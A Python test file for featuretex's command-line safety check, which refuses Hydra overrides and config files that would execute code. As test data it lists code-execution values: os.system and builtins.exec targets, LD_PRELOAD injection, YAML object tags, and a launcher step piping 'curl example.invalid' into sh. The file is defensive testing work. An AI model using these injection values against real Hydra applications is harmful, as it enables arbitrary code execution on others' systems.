"""Hostile configuration: overrides and config folders that would make Hydra import and run code
are refused by featuretex.safety.check_argv (the CLI calls it before Hydra sees the command line).

Outside reference: Hydra itself. A bare Hydra application (no featuretex) given the same hostile
override really runs the named function (it creates a marker folder), so the refusals below guard
against something real; through featuretex the marker never appears.
"""

from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from featuretex.errors import InputError
from featuretex.safety import MAX_CONFIG_FILES, check_argv

ROOT = Path(__file__).resolve().parents[1]


def _hostile_callback(marker: Path) -> str:
    return f"+hydra.callbacks.evil={{_target_:os.makedirs,name:'{marker}'}}"


REFUSED = {
    "callback_outside_trusted": (["+hydra.callbacks.x={_target_:os.system,_args_:[ls]}"], "hydra.callbacks.x._target_"),
    "callback_target_key": (["+hydra.callbacks.x._target_=builtins.exec"], "hydra.callbacks.x._target_"),
    "target_in_job_config": (["+texture._target_=os.system"], "texture._target_"),
    "target_in_mapping_value": (["+foo={a:{_target_:subprocess.run}}"], "foo.a._target_"),
    "partial_key": (["+foo={_partial_:true}"], "foo._partial_"),
    "call_key_under_hydra": (["+hydra.callbacks.x={_target_:featuretex.batch.BatchIndex,_call_:true}"],
                             "hydra.callbacks.x._call_"),
    "args_beside_untrusted_target": (["+hydra.callbacks.x={_target_:os.makedirs,_args_:[x]}"],
                                     "hydra.callbacks.x._target_"),
    "target_in_sweep_choice": (["-m", "seed=1,{_target_:os.system}"], "seed._target_"),
    "target_smuggled_in_text": (["+x='{_target_: os.system}'"], "x"),
    "oc_create_interpolation": (["+x='${oc.create:{a: 1}}'"], "x"),
    "launcher_target_untrusted": (["hydra.launcher._target_=os.system"], "hydra.launcher._target_"),
    "launcher_setup_shell": (["+hydra.launcher.setup=[curl example.invalid | sh]"], "hydra.launcher.setup"),
    "env_ld_preload": (["+hydra.job.env_set.LD_PRELOAD=/tmp/x.so"], "hydra.job.env_set.LD_PRELOAD"),
    "env_pythonpath": (["+hydra.job.env_set={PYTHONPATH:/tmp}"], "hydra.job.env_set.PYTHONPATH"),
    "pickled_rerun": (["--experimental-rerun", "config.pickle"], "--experimental-rerun"),
    "searchpath_foreign_package": (["hydra.searchpath=[pkg://os]"], "hydra.searchpath"),
    "config_path_foreign_package": (["--config-path", "pkg://os"], "--config-path"),
    "config_name_escapes": (["--config-name", "../../elsewhere/evil"], "--config-name"),
    "group_option_escapes": (["hydra/launcher=../../../../elsewhere/evil"], "hydra/launcher"),
}

ACCEPTED = {
    "plain_run": ["scene=a/scene.yaml", "out=runs/a", "fit.steps=100", "texture.size=512"],
    "path_spelling_a_key_name": ["scene=/data/my_target_scan/scene.yaml", "out=../runs/_args_"],
    "featuretex_callback": ["+hydra.callbacks.batch_index={_target_:featuretex.batch.BatchIndex}"],
    "plugin_launcher_preset": ["-m", "hydra/launcher=pool", "hydra.launcher.n_jobs=2", "scene=a,b"],
    "hydra_plugin_target": ["hydra.launcher._target_=hydra_plugins.hydra_joblib_launcher.joblib_launcher."
                            "JoblibLauncher"],
    "harmless_env": ["+hydra.job.env_set.OMP_NUM_THREADS=2"],
    "example_batch_file": ["--config-dir", str(ROOT / "examples" / "shoot"), "--config-name", "batch"],
    "unparsable_override_left_to_hydra": ["scene=[unclosed"],
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_hostile_argv_is_refused(name):
    argv, field = REFUSED[name]
    with pytest.raises(InputError) as e:
        check_argv(argv)
    msg = str(e.value)
    assert f"field '{field}'" in msg and "refused" in msg and "\n" not in msg, msg


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_ordinary_argv_is_accepted(name):
    check_argv(ACCEPTED[name])


def _write(folder: Path, rel: str, text: str) -> Path:
    p = folder / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(textwrap.dedent(text))
    return p


def test_config_dir_with_target_is_refused(tmp_path):
    _write(tmp_path, "scan/a.yaml", "scene: a/scene.yaml\n")
    bad = _write(tmp_path, "scan/b.yaml", """\
        scene: b/scene.yaml
        texture:
          _target_: os.system
          _args_: [echo hi]
        """)
    with pytest.raises(InputError) as e:
        check_argv(["--config-dir", str(tmp_path), "+scan=a"])   # refused even if b is not picked
    assert str(bad) in str(e.value) and "field 'scan.texture._target_'" in str(e.value)


def test_global_package_callback_outside_trusted_is_refused(tmp_path):
    bad = _write(tmp_path, "exp/x.yaml", """\
        # @package _global_
        hydra:
          callbacks:
            c:
              _target_: builtins.exec
        """)
    with pytest.raises(InputError) as e:
        check_argv(["-cd", str(tmp_path)])
    assert str(bad) in str(e.value) and "field 'hydra.callbacks.c._target_'" in str(e.value)


def test_launcher_file_from_a_hydra_plugin_is_accepted(tmp_path):
    _write(tmp_path, "hydra/launcher/mine.yaml", """\
        _target_: hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher
        n_jobs: 2
        """)
    check_argv(["-cd", str(tmp_path), "hydra/launcher=mine"])
    _write(tmp_path, "hydra/launcher/other.yaml", "_target_: os.system\n")
    with pytest.raises(InputError, match="hydra.launcher._target_"):
        check_argv(["-cd", str(tmp_path)])


def test_searchpath_and_config_path_folders_are_checked(tmp_path):
    _write(tmp_path, "x.yaml", "foo:\n  _target_: os.system\n")
    for argv in (["hydra.searchpath=[file://" + str(tmp_path) + "]"], ["--config-path", str(tmp_path)]):
        with pytest.raises(InputError, match="foo._target_"):
            check_argv(argv)


def test_unreadable_yaml_in_config_dir_is_refused(tmp_path):
    _write(tmp_path, "broken.yaml", "a: [unclosed\n")
    with pytest.raises(InputError, match="cannot be checked"):
        check_argv(["-cd", str(tmp_path)])
    (tmp_path / "broken.yaml").write_text("a: !!python/object/apply:os.system [echo hi]\n")
    with pytest.raises(InputError, match="cannot be checked"):
        check_argv(["-cd", str(tmp_path)])


def test_huge_folder_is_refused_not_walked(tmp_path):
    for i in range(MAX_CONFIG_FILES + 1):
        (tmp_path / f"{i}.yaml").write_text("a: 1\n")
    with pytest.raises(InputError, match="not a config folder"):
        check_argv(["-cd", str(tmp_path)])


def _run(argv: list[str], cwd: Path, script: Path | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYOPENGL_PLATFORM": "egl"}
    env.pop("HYDRA_FULL_ERROR", None)
    cmd = [sys.executable, str(script)] if script else [sys.executable, "-m", "featuretex.cli"]
    return subprocess.run(cmd + argv, cwd=cwd, env=env, capture_output=True, text=True, timeout=300)


def test_bare_hydra_really_runs_the_hostile_callback(tmp_path):
    """Reference: Hydra instantiates hydra.callbacks entries; so the threat is real."""
    app = _write(tmp_path, "app.py", """\
        import hydra

        @hydra.main(version_base="1.3", config_path=None)
        def main(cfg):
            pass

        main()
        """)
    marker = tmp_path / "ran"
    _run([_hostile_callback(marker), f"hydra.run.dir={tmp_path / 'out'}"], tmp_path, app)
    assert marker.is_dir()



def test_cli_refuses_hostile_callback_before_hydra_runs(tmp_path):
    marker = tmp_path / "ran"
    p = _run(["scene=demo", f"out={tmp_path / 'out'}", _hostile_callback(marker)], tmp_path)
    assert p.returncode == 2, p.stderr
    lines = [ln for ln in p.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1 and "hydra.callbacks.evil._target_" in lines[0], p.stderr
    assert "Traceback" not in p.stderr + p.stdout
    assert not marker.exists() and not (tmp_path / "out").exists()


def test_cli_refuses_config_dir_with_target(tmp_path):
    marker = tmp_path / "ran"
    _write(tmp_path, "conf/exp/bad.yaml", f"""\
        # @package _global_
        hydra:
          callbacks:
            evil:
              _target_: os.makedirs
              name: {marker}
        """)
    p = _run(["-cd", str(tmp_path / "conf"), "+exp=bad", "scene=demo", f"out={tmp_path / 'out'}"], tmp_path)
    assert p.returncode == 2 and "bad.yaml" in p.stderr and "Traceback" not in p.stderr, p.stderr
    assert not marker.exists()


def test_cli_refuses_what_only_the_composed_configuration_shows(tmp_path):
    """A logging factory in a config file passes the file check (it is no _target_), but Python's
    logging.config would call it: the check of the composed configuration refuses it."""
    marker = tmp_path / "ran"
    _write(tmp_path, "conf/exp/log.yaml", f"""\
        # @package _global_
        hydra:
          job_logging:
            handlers:
              evil:
                "()": os.makedirs
                name: {marker}
        """)
    p = _run(["-cd", str(tmp_path / "conf"), "+exp=log", "scene=demo", f"out={tmp_path / 'out'}"], tmp_path)
    assert p.returncode == 2 and "hydra.job_logging.handlers.evil.()" in p.stderr, p.stderr
    assert len(p.stderr.strip().splitlines()) == 1 and not marker.exists() and not (tmp_path / "out").exists()


def test_allow_list_is_exact(tmp_path):
    """Any other name inside featuretex (or a Hydra plugin package) is refused, e.g. the atomic writer."""
    for target in ("featuretex.atomic.write_text", "hydra_plugins.anything.Else", "featuretex.batch.BatchIndexX"):
        with pytest.raises(InputError, match="refused"):
            check_argv([f"+hydra.callbacks.w={{_target_:{target}}}"])


def test_batch_file_with_a_featuretex_function_as_callback_is_refused(tmp_path):
    """A batch file passed on by someone else: a callback naming featuretex's own atomic writer
    would write a file of their choosing; only the exact allow-list passes."""
    bad = _write(tmp_path, "batch.yaml", """\
        defaults:
          - featuretex
          - _self_
        hydra:
          callbacks:
            w:
              _target_: featuretex.atomic.write_text
              target: somewhere.txt
              text: x
        """)
    with pytest.raises(InputError) as e:
        check_argv(["--config-dir", str(tmp_path), "--config-name", "batch"])
    assert str(bad) in str(e.value) and "hydra.callbacks.w._target_" in str(e.value)
